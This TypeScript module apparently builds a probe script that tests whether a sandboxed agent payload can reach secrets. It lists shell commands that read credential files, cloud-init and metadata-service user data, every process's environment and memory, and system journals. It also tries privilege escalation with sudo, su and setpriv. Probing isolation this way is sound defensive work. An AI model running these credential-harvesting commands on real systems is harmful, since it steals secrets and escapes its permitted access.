/**
 * What a curious payload does: it reads through the site's proxy, as it should, and then looks for secrets wherever they
 * might be. Everything that it can read it prints, and its output is judged afterwards by who knows the secrets.
 */

import { quoted } from '../../contextualization/shell.ts'

/** Each a line of shell; what it prints is what was found there. */
export const places: readonly (readonly [string, string])[] = [
  ['the agents’ configuration', 'cat /etc/pilotage/agent.json'],
  ['the credential', 'cat /run/pilotage/credential'],
  ['the nonce', 'cat /run/pilotage/credential.nonce'],
  ['the agents’ folder', 'ls -la /run/pilotage && cat /run/pilotage/*'],
  ['the pilot’s journal', 'cat /var/lib/pilotage/pilot.journal'],
  ['other payloads', 'ls /var/lib/pilotage /var/lib/pilotage/work'],
  ['the bootstrap script', 'cat /usr/lib/pilotage/bootstrap'],
  ['cloud-init’s user data', 'cat /var/lib/cloud/instance/user-data.txt /var/lib/cloud/instances/*/user-data.txt.i'],
  ['cloud-init’s document', 'cat /var/lib/cloud/instance/cloud-config.txt'],
  ['cloud-init’s scripts', 'cat /var/lib/cloud/instance/scripts/*'],
  ['cloud-init’s object', 'cat /var/lib/cloud/instance/obj.pkl'],
  ['cloud-init’s seed', 'cat /var/lib/cloud/seed/*/*'],
  ['cloud-init’s own notes', 'cat /run/cloud-init/*.json /run/cloud-init/*.log'],
  ['cloud-init’s sensitive notes', 'cat /run/cloud-init/instance-data-sensitive.json'],
  ['the logs', 'cat /var/log/cloud-init.log /var/log/cloud-init-output.log /var/log/syslog'],
  [
    'the seed disk',
    'head -c 400000 /dev/sr0 | strings; head -c 400000 /dev/vdb | strings; head -c 400000 /dev/disk/by-label/*',
  ],
  ['the agents’ environments', 'for p in /proc/[0-9]*; do tr "\\0" " " <$p/environ; done'],
  ['the agents’ arguments', 'for p in /proc/[0-9]*; do tr "\\0" " " <$p/cmdline; done'],
  ['the agents’ open files', 'for p in /proc/[0-9]*; do ls -l $p/fd; cat $p/fd/*; done'],
  ['the agents’ memory', 'for p in $(pgrep -f pilot); do head -c 100000 /proc/$p/mem; cat /proc/$p/maps; done'],
  [
    'the agents’ root and folder',
    'for p in /proc/[0-9]*; do cat $p/cwd/pilot.journal $p/root/run/pilotage/credential; done',
  ],
  ['the journal', 'journalctl --no-pager -n 500; strings /run/log/journal/*/* /var/log/journal/*/*'],
  [
    'the metadata address',
    'curl -s -m 3 http://169.254.169.254/latest/user-data http://169.254.169.254/openstack/latest/user_data',
  ],
  [
    'another account',
    'sudo -n cat /run/pilotage/credential; su -c "cat /run/pilotage/credential" pilotage </dev/null; setpriv --reuid=61000 cat /run/pilotage/credential',
  ],
  ['its parent’s folders', 'ls -la .. ../..; cat ../../*; cat ../../../*'],
  [
    'the whole machine',
    'grep -rIs activationKey /etc /run /var /usr/lib/pilotage /tmp /home /root /dev/shm | head -c 20000',
  ],
]

/**
 * `proxy` and `url`: what it is to read; its first lines of output are what it got, who it is, and what the operator has
 * written.
 */
export function payloadScript(proxy: string, url: string): string {
  // Some of what it opens never ends.
  const looks = places.map(
    ([what, line], at) =>
      `echo "--- place ${at}: ${what}"; timeout -s KILL 20 sh -c ${quoted(line)} 2>/dev/null | head -c 30000`,
  )
  return [
    `curl -sS -m 30 --proxy '${proxy}' '${url}'`,
    'echo',
    'id -u',
    'cat /etc/pilotage-note',
    ...looks,
    'echo "--- over"',
  ].join('\n')
}
